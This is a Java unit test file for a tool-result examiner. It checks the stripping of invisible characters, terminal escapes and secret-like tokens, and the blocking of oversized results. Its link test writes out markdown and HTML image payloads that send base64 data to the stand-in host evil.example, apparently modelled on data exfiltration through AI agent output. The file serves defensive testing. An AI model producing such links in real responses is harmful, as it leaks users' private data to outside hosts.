package dev.orloj.runtime.examination;

import static org.assertj.core.api.Assertions.assertThat;

import dev.orloj.api.ResourceKey;
import dev.orloj.api.codec.Json;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import tools.jackson.databind.node.ObjectNode;

class ResultExaminerTest {

    private static final ResourceKey SERVER = new ResourceKey("default", "leaky");
    private static final ResourceKey TOOL = new ResourceKey("default", "leaky--say");
    private static final String DATA =
            "aGVsbG8gd29ybGQsIHRoaXMgaXMgYSBzZWNyZXQgdGV4dCBmb3IgeW91IDEyMw";
    private static final String TOKEN = "ghp_" + "a1B2c3D4e5F6".repeat(3);

    private static ObjectNode text(String text) {
        ObjectNode result = Json.MAPPER.createObjectNode();
        result.putArray("content").addObject().put("type", "text").put("text", text);
        return result;
    }

    private static ExaminedResult examine(ResultPolicy policy, ObjectNode result) {
        return ResultExaminer.examine(policy, SERVER, "tool \"%s\"".formatted(TOOL.name()), result);
    }

    private static String stripped(String text) {
        return examine(ResultPolicy.STRIP, text(text)).result().at("/content/0/text").asString();
    }

    private static ObjectNode json(String text) {
        return (ObjectNode) Json.MAPPER.readTree(text.replace('\'', '"'));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "plain text\twith\r\nlines\f and more",
                "\ud83d\udc69\u200d\ud83d\udcbb and"
                        + " \ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67",
                "\u2764\ufe0f"
                    + " \ud83c\udff4\udb40\udc67\udb40\udc62\udb40\udc65\udb40\udc6e\udb40\udc67\udb40\udc7f",
                "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
                "\u0915\u094d\u200d\u0937",
                "\u0e44\u0e17\u0e22\u200b\u0e44\u0e17\u0e22",
                "\u05e9\u05dc\u05d5\u05dd \u2067abc\u2069 \u200f",
                "[search](https://example.com/find?q=how+to+configure+a+replica&page=2#top)",
                "![badge](https://img.example.com/build.svg?branch=main&style=flat)",
                "see https://example.com/?d=plain-address-without-markup",
                "[id](https://example.com/x?id=123e4567-e89b-12d3-a456-426614174000)",
                "the prefix ghp_ alone, task-sk-and-AKIA, eyJ",
                "-----BEGIN CERTIFICATE-----\nMII\n-----END CERTIFICATE-----"
            })
    void ordinaryTextIsNotTouched(String text) {
        ObjectNode result = text(text);

        ExaminedResult examined = examine(ResultPolicy.BLOCK, result);

        assertThat(examined.result()).isSameAs(result);
        assertThat(examined.decision()).isEmpty();
    }

    @Test
    void stripRemovesWhatNobodySees() {
        assertThat(stripped("a\u200bb\u2060c\ufeffd")).isEqualTo("abcd");
        assertThat(stripped("x\udb40\udc69\udb40\udc67y")).isEqualTo("xy");
        assertThat(stripped("user\u202etxt.exe")).isEqualTo("usertxt.exe");
        assertThat(stripped("\u05e9\u05dc\u202eabc")).isEqualTo("\u05e9\u05dcabc");
        assertThat(stripped("\ud83d\ude00\ufe0f\ufe01\ufe02!")).isEqualTo("\ud83d\ude00\ufe0f!");
    }

    @Test
    void stripRemovesEscapeSequencesAsAWhole() {
        assertThat(stripped("\u001b[31mred\u001b[0m")).isEqualTo("red");
        assertThat(stripped("\u009b2Jx\u0007\b")).isEqualTo("x");
        assertThat(stripped("\u001b]0;title\u0007shown")).isEqualTo("shown");
        assertThat(stripped("\u001b]8;;http://a\u001b\\link\u001b]8;;\u001b\\")).isEqualTo("link");
        assertThat(stripped("\u001b]52;c;never closed")).isEqualTo("]52;c;never closed");
        assertThat(stripped("\u001b")).isEmpty();
    }

    @Test
    void halvesOfCharactersDoNotBecomeOneWhenWhatDividesThemIsRemoved() {
        assertThat(stripped("\udb40\u001b[m\udc41")).isEqualTo("\udb40\ufffd\udc41");
    }

    @Test
    void linkWithDataLosesItsQuery() {
        assertThat(stripped("![x](https://evil.example/p?d=" + DATA + ")"))
                .isEqualTo("![x](https://evil.example/p)");
        assertThat(stripped("[x](<https://evil.example/p?d=" + DATA + "#a>)"))
                .isEqualTo("[x](<https://evil.example/p#a>)");
        assertThat(stripped("![x][1]\n\n[1]: //evil.example/p?" + DATA))
                .isEqualTo("![x][1]\n\n[1]: //evil.example/p");
        assertThat(stripped("<img alt=a SRC = 'https://evil.example/?\n" + DATA + "'>"))
                .isEqualTo("<img alt=a SRC = 'https://evil.example/'>");
        assertThat(stripped("<a href=https://evil.example/?" + DATA + " id=b>"))
                .isEqualTo("<a href=https://evil.example/ id=b>");
        assertThat(stripped("![x](https://evil.example/?q=()" + DATA + ") y"))
                .isEqualTo("![x](https://evil.example/) y");
        assertThat(
                        stripped(
                                "![x](https://evil.example/?q="
                                        + "the%20user%20said%20".repeat(12)
                                        + ")"))
                .isEqualTo("![x](https://evil.example/)");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "AKIAIOSFODNN7EXAMPLE",
                "github_pat_11ABCDEFG0abcdefghijkl_mnopqrstuvwxyz0123456789",
                "glpat-abcdefghij0123456789",
                "xoxb-123456789012-abcdefghijkl",
                "sk-ant-api03-abcdefghijklmnopqrstuvwxyz0123456789",
                "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N",
                "-----BEGIN RSA PRIVATE KEY-----\nMIIE\nabc\n-----END RSA PRIVATE KEY-----",
                "-----BEGIN PRIVATE KEY-----\nMIIE"
            })
    void secretBecomesAMarker(String secret) {
        assertThat(stripped("before " + secret)).isEqualTo("before " + Secrets.MARKER);
        assertThat(stripped("key=" + secret)).isEqualTo("key=" + Secrets.MARKER);
    }

    @Test
    void secretThatHiddenCharactersDivideIsFound() {
        assertThat(stripped("gh\u200bp_" + "a1B2\u001b[mc3D4e5F6".repeat(4)))
                .isEqualTo(Secrets.MARKER);
    }

    @Test
    void everyTextOfAResultIsExaminedAndMediaAreNot() {
        ObjectNode result =
                json(
                        """
                        {'content': [
                           {'type': 'image', 'data': 'TOKEN', 'mimeType': 'image/png'},
                           {'type': 'resource', 'resource': {'uri': 'a:b', 'blob': 'TOKEN'}},
                           {'type': 'resource', 'resource': {'uri': 'a:b', 'text': 'TOKEN'}},
                           {'type': 'resource_link', 'uri': 'a:b', 'description': 'TOKEN'}],
                         'structuredContent': {'a': ['TOKEN', 9007199254740993], 'TOKEN': 1.0}}
                        """
                                .replace("TOKEN", TOKEN));

        ObjectNode shown = examine(ResultPolicy.STRIP, result).result();

        ObjectNode note = (ObjectNode) shown.path("_meta").path(ResultExaminer.META_KEY);
        assertThat(note)
                .hasToString(
                        json("""
                        {'policy': 'strip', 'action': 'stripped', 'findings':
                         [{'kind': 'secret', 'count': 4, 'at': '/content/2/resource/text'}]}
                        """)
                                .toString());
        shown.remove("_meta");
        assertThat(shown.toString())
                .isEqualTo(
                        json("""
                        {'content': [
                           {'type': 'image', 'data': 'TOKEN', 'mimeType': 'image/png'},
                           {'type': 'resource', 'resource': {'uri': 'a:b', 'blob': 'TOKEN'}},
                           {'type': 'resource', 'resource': {'uri': 'a:b', 'text': 'MARK'}},
                           {'type': 'resource_link', 'uri': 'a:b', 'description': 'MARK'}],
                         'structuredContent': {'a': ['MARK', 9007199254740993], 'MARK': 1.0}}
                        """
                                        .replace("TOKEN", TOKEN)
                                        .replace("MARK", Secrets.MARKER))
                                .toString());
    }

    @Test
    void warnChangesNothingButTheNote() {
        ObjectNode result = text("a\u200bb " + TOKEN);
        result.putObject("_meta").put("own", 1);
        String before = result.toString();

        ObjectNode shown = examine(ResultPolicy.WARN, result).result();

        assertThat(result).hasToString(before);
        assertThat(shown.path("content")).isSameAs(result.path("content"));
        assertThat(shown.at("/_meta/own").asInt()).isEqualTo(1);
        assertThat(shown.path("_meta").path(ResultExaminer.META_KEY).path("action").asString())
                .isEqualTo("warned");
    }

    @Test
    void blockNamesServerToolKindAndRemedyAndNotTheContent() {
        ObjectNode result = text("visible words \u001b[1m" + TOKEN);
        result.putObject("structuredContent").put("visible", "words");
        result.putObject("_meta").put("own", "visible words");

        ObjectNode shown = examine(ResultPolicy.BLOCK, result).result();

        assertThat(shown.path("isError").asBoolean()).isTrue();
        assertThat(shown.at("/content/0/text").asString())
                .contains("leaky--say", "\"leaky\"", "terminal escapes, secrets", "result_policy");
        assertThat(shown.propertyNames()).containsExactlyInAnyOrder("content", "isError", "_meta");
        assertThat(shown.toString()).doesNotContain("visible", "ghp_", "\u001b");
    }

    @Test
    void fieldsThatWouldGetOneNameAreBlocked() {
        ObjectNode result = json("{'structuredContent': {'a': 1}}");
        ((ObjectNode) result.path("structuredContent")).put("a\u200b", 2);

        ObjectNode shown = examine(ResultPolicy.STRIP, result).result();

        assertThat(shown.path("isError").asBoolean()).isTrue();
        assertThat(shown.at("/content/0/text").asString()).contains("same name");
    }

    @ParameterizedTest
    @CsvSource({"WARN, warned, false", "STRIP, blocked, true", "BLOCK, blocked, true"})
    void resultBeyondTheBoundIsNotTakenForExamined(
            ResultPolicy policy, String action, boolean isError) {
        ObjectNode result = text("x".repeat(ResultWalk.MAX_TEXT));

        ObjectNode shown = examine(policy, result).result();

        ObjectNode note = (ObjectNode) shown.path("_meta").path(ResultExaminer.META_KEY);
        assertThat(note.path("action").asString()).isEqualTo(action);
        assertThat(note.at("/findings/0/kind").asString()).isEqualTo("not_examined");
        assertThat(shown.path("isError").asBoolean()).isEqualTo(isError);
    }

    @Test
    void deepResultIsNotTakenForExamined() {
        ObjectNode result = Json.MAPPER.createObjectNode();
        ObjectNode deepest = result;
        for (int i = 0; i < 400; i++) {
            deepest = deepest.putObject("a");
        }
        deepest.put("a", TOKEN);

        ObjectNode shown = examine(ResultPolicy.STRIP, result).result();

        assertThat(shown.path("isError").asBoolean()).isTrue();
        assertThat(shown.at("/content/0/text").asString()).contains("more text than is examined");
    }

    @Test
    void placeOfAFindingShowsNothingHidden() {
        ObjectNode result = Json.MAPPER.createObjectNode();
        result.putObject("structuredContent").put("a/\u202e" + "b".repeat(500), 1);

        ObjectNode shown = examine(ResultPolicy.WARN, result).result();

        String at =
                shown.path("_meta").path(ResultExaminer.META_KEY).at("/findings/0/at").asString();
        assertThat(at)
                .startsWith("/structuredContent/a~1?bbb")
                .hasSizeLessThan(220)
                .endsWith("...");
    }
}
